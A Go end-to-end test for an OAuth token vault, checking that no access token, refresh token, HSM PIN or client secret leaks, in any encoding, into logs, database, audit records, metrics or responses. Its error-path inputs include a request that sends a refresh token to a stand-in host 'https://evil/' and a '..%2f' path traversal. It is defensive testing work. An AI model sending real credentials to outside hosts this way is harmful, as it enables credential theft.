package e2e

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
	"sync"
	"testing"

	"github.com/vaultd/vaultd/vaultd/oauth"
	"github.com/vaultd/vaultd/vaultd/oauth/oauthtest"
)

// recorder is a RoundTripper that keeps every response (status, headers,
// body) vaultd sent to the caller.
type recorder struct {
	rt  http.RoundTripper
	mu  sync.Mutex
	buf bytes.Buffer
}

func (r *recorder) RoundTrip(req *http.Request) (*http.Response, error) {
	resp, err := r.rt.RoundTrip(req)
	if err != nil {
		return nil, err
	}
	b, rerr := io.ReadAll(resp.Body)
	resp.Body.Close()
	resp.Body = io.NopCloser(bytes.NewReader(b))
	r.mu.Lock()
	defer r.mu.Unlock()
	fmt.Fprintf(&r.buf, "%s -> %d\n", req.Method, resp.StatusCode) // not the URL: the test puts tokens in some
	_ = resp.Header.Write(&r.buf)
	_ = resp.Trailer.Write(&r.buf)
	r.buf.Write(b)
	r.buf.WriteString("\n")
	return resp, rerr
}

func (r *recorder) bytes() []byte {
	r.mu.Lock()
	defer r.mu.Unlock()
	return bytes.Clone(r.buf.Bytes())
}

// secretForms returns the encodings of s a careless component might
// write: raw, hex, base64 (std, URL, unpadded), URL query and path
// escaping.
func secretForms(s string) []string {
	b := []byte(s)
	forms := []string{
		s, hex.EncodeToString(b), strings.ToUpper(hex.EncodeToString(b)),
		base64.StdEncoding.EncodeToString(b), base64.URLEncoding.EncodeToString(b),
		base64.RawStdEncoding.EncodeToString(b), base64.RawURLEncoding.EncodeToString(b),
		url.QueryEscape(s), url.PathEscape(s),
	}
	return forms
}

// prefixForms returns patterns that find ANY token starting with prefix,
// in raw, hex or base64 form, wherever it sits in the encoded stream: one
// of the three byte alignments of the prefix starts on a base64 quantum,
// and its whole quanta then appear verbatim.
func prefixForms(prefix string) []string {
	out := []string{prefix, hex.EncodeToString([]byte(prefix))}
	for a := 0; a < 3; a++ {
		p := []byte(prefix[a:])
		p = p[:len(p)/3*3]
		out = append(out, base64.StdEncoding.EncodeToString(p), base64.URLEncoding.EncodeToString(p))
	}
	return out
}

// TestNoSecretLeaks runs the whole product once -- store, proxy, execute,
// refresh (with rotation, failures and a provider that echoes tokens in
// its errors), reflected tokens, forced refresh, error paths, disconnect
// -- and then searches everything vaultd wrote or answered for every
// access token, refresh token, the HSM PIN and the client secret.
func TestNoSecretLeaks(t *testing.T) {
	e := New(t, Options{})
	ctx := t.Context()
	rec := &recorder{rt: e.HTTP(AppAcme).Transport}
	hc := &http.Client{Transport: rec, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	e.CreateTenant("acme")

	var known []oauth.Token
	store := func(id string, expiresIn int64) oauth.Token {
		e.Provider.SetExpiresIn(expiresIn)
		tok := e.Provider.IssueInitialToken([]string{"contacts.read"})
		e.Provider.SetExpiresIn(longLived)
		body, _ := json.Marshal(map[string]any{"provider": ProviderName, "token": json.RawMessage(oauthtest.TokenResponseJSON(tok))})
		if r := obDo(t, hc, http.MethodPut, e.API+"/v1/integrations/"+id, nil, bytes.NewReader(body)); r.Status != http.StatusOK && r.Status != http.StatusCreated {
			t.Fatalf("store %s: %d %s", id, r.Status, r.Body)
		}
		known = append(known, tok)
		return tok
	}
	get := func(id, path string) obResult { return obProxy(t, e, hc, id, http.MethodGet, path, nil, nil) }

	// Store, proxy, execute, refresh.
	store("a", dueSoon)
	store("b", longLived)
	for i := 0; i < 3; i++ {
		get("a", "contacts/1")
		get("a", "reflect-token?split=5")
		obExecute(t, e, hc, "a", map[string]any{"method": "POST", "path": "reflect-token", "body": "x"})
		get("b", "reflect-token")
	}
	e.Provider.SetExpiresIn(dueSoon) // every use of "a" refreshes again
	for i := 0; i < 3; i++ {
		get("a", "stream?n=3")
	}
	e.Provider.SetExpiresIn(longLived)

	// Scope drift, forced refresh after an upstream 401.
	store("c", dueSoon)
	e.Provider.SetGrantedScopes([]string{"contacts.read", "admin.all"})
	get("c", "contacts/2")
	e.Provider.SetGrantedScopes(nil)
	d := store("d", longLived)
	obRevokeAtProvider(t, e, d.AccessToken.Reveal())
	get("d", "reflect-token")

	// A careless provider echoing tokens in its error answers.
	e.Provider.SetEchoTokens(true)
	store("e", dueSoon)
	e.Provider.SetNextRefreshError("temporarily_unavailable", http.StatusServiceUnavailable)
	get("e", "contacts/1")
	store("f", dueSoon)
	e.Provider.SetNextRefreshError("invalid_grant", http.StatusBadRequest)
	get("f", "contacts/1")
	get("f", "contacts/1")
	e.Provider.SetNextRefreshResponse(http.StatusOK, "application/json", []byte(`{"access_token":`))
	store("g", dueSoon)
	get("g", "contacts/1")

	// Error paths fed with token material.
	a0 := known[0]
	get("a", "..%2f"+a0.AccessToken.Reveal())
	get("nope", "contacts/1")
	obExecute(t, e, hc, "a", map[string]any{"method": "GET", "path": "https://evil/" + a0.RefreshToken.Reveal()})
	obDo(t, hc, http.MethodPost, e.API+"/v1/integrations/a/execute", nil,
		strings.NewReader(`{"method":"GET","path":"x","headers":{"A":1},"body":"`+a0.AccessToken.Reveal()))
	obDo(t, hc, http.MethodPut, e.API+"/v1/integrations/h", nil,
		strings.NewReader(`{"provider":"example","token":{"access_token":7,"refresh_token":"`+a0.RefreshToken.Reveal()+`"}}`))
	obDo(t, hc, http.MethodPut, e.API+"/v1/integrations/h", nil,
		strings.NewReader(`{"provider":"nope","token":{"access_token":"`+a0.AccessToken.Reveal()+`"}}`))
	obDo(t, hc, http.MethodGet, e.API+"/v1/integrations/a/proxy/contacts?access_token="+a0.AccessToken.Reveal()+"%zz", nil, nil)

	// Disconnect, with and without the provider's revocation failing.
	obDo(t, hc, http.MethodDelete, e.API+"/v1/integrations/b", nil, nil)
	e.Provider.SetNextRevokeError("server_error", http.StatusServiceUnavailable)
	obDo(t, hc, http.MethodDelete, e.API+"/v1/integrations/c", nil, nil)
	e.Provider.SetEchoTokens(false)
	obDo(t, hc, http.MethodGet, e.API+"/v1/integrations", nil, nil)
	for _, id := range []string{"a", "d", "e", "f", "g"} {
		obDo(t, hc, http.MethodGet, e.API+"/v1/integrations/"+id, nil, nil)
	}

	// The run did what it claims (otherwise finding nothing means nothing).
	if e.Provider.RefreshCount() < 6 || len(e.Provider.Revoked()) < 2 {
		t.Fatalf("run too thin: %d refreshes, %d revocations", e.Provider.RefreshCount(), len(e.Provider.Revoked()))
	}
	responses := rec.bytes()
	if !bytes.Contains(responses, []byte("[REDACTED]")) || !bytes.Contains(responses, []byte("egress_denied")) ||
		!bytes.Contains(responses, []byte("reauthorization_required")) {
		t.Fatalf("run did not exercise redaction and errors:\n%s", responses)
	}

	var auditExport strings.Builder
	if err := e.Client(Auditor).Audit(ctx, clientAuditAll(), &auditExport); err != nil {
		t.Fatal(err)
	}
	_, metrics := e.OpsGet("/metrics")
	_, health := e.OpsGet("/readyz")
	if err := e.Stop(); err != nil {
		t.Fatalf("stop: %v", err)
	}
	db, err := os.ReadFile(e.DBPath)
	must(t, err)
	mirror, err := os.ReadFile(e.AuditPath)
	must(t, err)

	places := map[string][]byte{
		"database file": db, "vaultd logs": []byte(e.Logs()), "audit mirror": mirror,
		"audit export": []byte(auditExport.String()), "metrics": []byte(metrics + health),
		"API responses": responses,
	}
	for name, b := range places {
		if len(b) == 0 {
			t.Fatalf("%s is empty: nothing was searched", name)
		}
	}
	patterns := map[string][]string{
		"access token (any)":  prefixForms(oauthtest.AccessTokenPrefix),
		"refresh token (any)": prefixForms(oauthtest.RefreshTokenPrefix),
		"HSM PIN":             secretForms(e.Token.PIN),
		"client secret":       secretForms(e.Provider.ClientSecret().Reveal()),
		"basic credentials": secretForms(url.QueryEscape(e.Provider.ClientID()) + ":" +
			url.QueryEscape(e.Provider.ClientSecret().Reveal())),
	}
	for _, tok := range known {
		patterns["issued access token"] = append(patterns["issued access token"], secretForms(tok.AccessToken.Reveal())...)
		patterns["issued refresh token"] = append(patterns["issued refresh token"], secretForms(tok.RefreshToken.Reveal())...)
	}
	// The search itself works: a token base64-encoded at any offset, or
	// hex-encoded, is found by the prefix patterns.
	for off := 0; off < 3; off++ {
		probe := strings.Repeat("j", off) + known[0].AccessToken.Reveal()
		for _, enc := range []string{base64.StdEncoding.EncodeToString([]byte(probe)), base64.RawURLEncoding.EncodeToString([]byte(probe)), hex.EncodeToString([]byte(probe))} {
			hit := false
			for _, f := range patterns["access token (any)"] {
				hit = hit || strings.Contains(enc, f)
			}
			if !hit {
				t.Fatalf("leak search misses an encoding at offset %d", off)
			}
		}
	}
	for place, b := range places {
		for what, forms := range patterns {
			for _, f := range forms {
				if bytes.Contains(b, []byte(f)) {
					t.Errorf("%s found in %s (form %d chars)", what, place, len(f))
				}
			}
		}
	}
}
